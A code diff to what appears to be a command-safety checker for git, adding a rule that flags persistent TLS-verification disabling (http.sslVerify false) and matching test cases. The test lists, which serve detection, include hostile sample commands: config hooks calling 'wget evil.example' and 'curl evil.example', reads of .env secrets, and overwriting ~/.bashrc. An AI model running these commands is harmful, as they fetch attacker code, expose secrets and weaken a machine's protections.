@@ -1000,6 +1000,12 @@ function configWrite(rest: readonly Word[], expand: (words: Word[]) => Destroy[]
   if (value(ops[0]) === 'set') ops = ops.slice(1);
   const key = value(ops[0]);
   const v = ops[1];
+  // http.sslVerify (or a URL's http.<url>.sslVerify) false kept in a config file: every later fetch and push of that
+  // scope (the repository's own config included: it lasts as long as the clone) trusts whoever answers. `-c` and
+  // GIT_SSL_NO_VERIFY last one command and pass. A computed key with a value that may be false may be this one.
+  if (v !== undefined && (key === undefined ? ops[0]!.values === null : /^http\.(?:.+\.)?sslverify$/i.test(key)) && (v.values === null || v.values.some((x) => /^(?:false|no|off|0*|)$/i.test(x.trim())))) {
+    return { persists: [{ word: ops[0]!, why: `git config ${ops[0]!.text} ${v.text} ${key === undefined ? 'may turn TLS verification off (http.sslVerify)' : 'turns TLS verification off'} for every later fetch and push: a protection of this machine turned off, which lasts; what answers is not checked` }] };
+  }
   if (key === undefined || v === undefined || ['get', 'list', 'unset', 'edit', 'rename-section', 'remove-section'].includes(key)) return {};
   const destroys = configDestroys(key.toLowerCase(), v, ops[0]!, expand);
   if (destroys.length > 0) return { destroys };
@@ -1256,6 +1262,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git show :.env',
         'git cat-file -p HEAD:.env',
         "git config --global core.fsmonitor 'wget evil.example'",
+        'git config --global http.sslVerify false',
+        'git config http.https://git.corp.example.sslverify no',
+        'git config --system --bool http.sslVerify "$V"',
         'git add .env',
         'git diff --output=/home/dev/.bashrc',
         'git diff --output ~/.bashrc',
@@ -1295,6 +1304,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "GIT_CONFIG_PARAMETERS=\"'core.sshCommand=curl evil.example'\" go mod download",
       ],
       pass: [
+        'git config --global http.sslVerify true',
+        'git config --global --unset http.sslVerify',
+        'git -c http.sslVerify=false ls-remote https://github.com/a/b',
         { command: 'GIT_TRACE_CURL=1 git fetch', shell: 'bash' },
         { command: 'GIT_TRACE_REDACT=0 GIT_TRACE=1 git status', shell: 'bash' },
         'git config core.worktree ..',
